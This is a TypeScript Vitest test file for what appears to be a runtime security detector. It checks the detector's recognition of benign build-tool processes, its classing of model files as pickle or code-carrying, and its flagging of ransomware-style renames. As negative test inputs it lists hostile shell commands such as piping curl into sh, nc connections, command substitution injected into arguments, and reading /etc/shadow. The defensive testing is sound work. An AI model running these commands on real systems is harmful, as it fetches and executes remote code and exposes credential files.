import { describe, expect, it } from 'vitest'
import type { LineageProcess } from '../../../detect/lineage.ts'
import { commandOf, isBuildTool } from './build-tools.ts'
import { carriesCode, isPickle, isText } from './formats.ts'
import { addedEnding } from './renames.ts'

const ran = (exe: string, ...args: string[]): LineageProcess =>
  ({ exe, comm: exe.slice(exe.lastIndexOf('/') + 1), args: args.join('\0') }) as unknown as LineageProcess
const shell = (command: string): LineageProcess => ran('/bin/sh', 'sh', '-c', command)

describe('a program that a library runs by itself', () => {
  it.each(['/usr/bin/gcc', '/usr/bin/gcc-12', '/usr/bin/x86_64-linux-gnu-gcc-13', '/sbin/ldconfig.real',
    '/usr/local/cuda/bin/ptxas', '/usr/bin/nvidia-smi'])('is known by its name: %s', (exe) => {
    expect(isBuildTool(ran(exe, exe))).toBe(true)
  })

  it.each(['/sbin/ldconfig -p 2>/dev/null', 'LC_ALL=C LANG=C /sbin/ldconfig -p', 'nvidia-smi -L 2>&1',
    'uname -p > /dev/null'])('is known when a shell is asked for it alone: %s', (command) => {
    expect(isBuildTool(shell(command))).toBe(true)
  })

  it.each(['gcc -v; curl 10.0.0.1 | sh', 'uname -a > /tmp/x', 'nvidia-smi & nc 10.0.0.1 9',
    'uname $(curl 10.0.0.1)', 'uname `id`', 'uname\ncurl 10.0.0.1', 'gcc -v || wget x',
    'curl 10.0.0.1', '', 'X=1', 'sh -c uname', 'cat < /etc/shadow'])(
    'is not a shell that does more, or other things: %j', (command) => {
      expect(isBuildTool(shell(command))).toBe(false)
    })

  it('is not a shell without a command, nor another program', () => {
    for (const process of [ran('/bin/bash', 'bash'), ran('/bin/bash', 'bash', '-i'),
      ran('/usr/bin/curl', 'curl', 'gcc'), ran('', '')]) {
      expect(isBuildTool(process)).toBe(false)
    }
  })

  it('is told by what the shell was given, shortened', () => {
    expect(commandOf(shell('curl x | sh'))).toBe('curl x | sh')
    expect(commandOf(ran('/bin/bash', 'bash', '-lc', 'id'))).toBe('id')
    expect(commandOf(ran('/usr/bin/curl', 'curl', '-c', 'jar', 'x'))).toBe('curl -c jar x')
    expect(commandOf(ran('/bin/sh', ''))).toBe('/bin/sh')
    expect(commandOf(shell('x'.repeat(1000)))).toHaveLength(200)
  })
})

describe('a file of a model', () => {
  it('may be a pickle, code, or a text for people, by its ending', () => {
    for (const path of ['/a/model.pt', '/a/pytorch_model-1.BIN', '/a.b/x.joblib', 'x.ckpt']) {
      expect([isPickle(path), carriesCode(path), isText(path)]).toEqual([true, true, false])
    }
    for (const path of ['/a/modeling.py', '/a/x.so', '/a/x.engine']) {
      expect([isPickle(path), carriesCode(path)]).toEqual([false, true])
    }
    for (const path of ['/a/x.safetensors', '/a.pt/x', '/a/pt', '/a/x.gguf', '/a/config.json', '']) {
      expect([isPickle(path), carriesCode(path), isText(path)]).toEqual([false, false, false])
    }
    for (const path of ['/a/README.md', '/a/LICENSE', '/a/.gitattributes']) expect(isText(path)).toBe(true)
  })
})

describe('a rename', () => {
  it.each([['/m/a.bin', '/m/a.bin.locked', '.locked'], ['/m/a.bin', '/m/a.crypt', '.crypt'],
    ['/m/a', '/x/a.enc', '.enc']])('from %s to %s adds %s', (from, to, ending) => {
    expect(addedEnding(from, to)).toBe(ending)
  })

  it.each([['/m/a.bin.tmp', '/m/a.bin'], ['/m/a.bin', '/m/a.bin.bak'], ['/m/a.bin', '/n/a.bin'],
    ['/m/a', '/m/b.locked'], ['/m/a.bin', '/m/a.bin.1'], ['/m/log', '/m/log.2.gz'], ['', '/m/a.locked'],
    ['/m/a', '/m/.locked'], ['/m/a.locked', '/m/b.locked'], ['/m/a', '/m/a.'],
    ['/m/model.partial', '/m/model.safetensors']])(
    'from %s to %s is ordinary', (from, to) => {
      expect(addedEnding(from, to)).toBe('')
    })
})
